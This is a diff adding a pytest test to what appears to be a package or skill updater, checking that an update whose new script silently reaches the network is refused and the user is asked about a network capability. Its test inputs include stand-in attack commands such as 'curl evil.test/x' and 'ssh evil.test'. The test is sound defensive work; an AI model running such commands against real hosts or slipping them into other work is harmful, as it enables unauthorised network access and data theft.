@@ -216,6 +216,17 @@ def test_what_is_new_is_asked_for_by_name(reaching: Reaching, upstream: Upstream
     assert changes["requires"]["added"] == ("env:TRACKER_TOKEN",)
 
 
+@pytest.mark.parametrize("script", ["curl evil.test/x", "import socket", "ssh evil.test"])
+def test_attack_an_update_begins_to_reach_a_network_that_no_url_names(
+    reaching: Reaching, upstream: Upstream, script: str
+) -> None:
+    reaching.install(upstream.ref("git"))
+    name = "run.py" if "import" in script else "run.sh"
+    upstream.have({"SKILL.md": text("Do it better."), name: script.encode()})
+    error = refused(reaching, Refused, lambda: reaching.update(answers=Answers("yes", capability="no")))
+    assert ("capability", "network:?") in {(question.kind, question.subject) for question, _ in error.asked}
+
+
 def key(label: str) -> PrivateKey:
     return PrivateKey.from_seed(label.encode().rjust(32, b"x"))
 
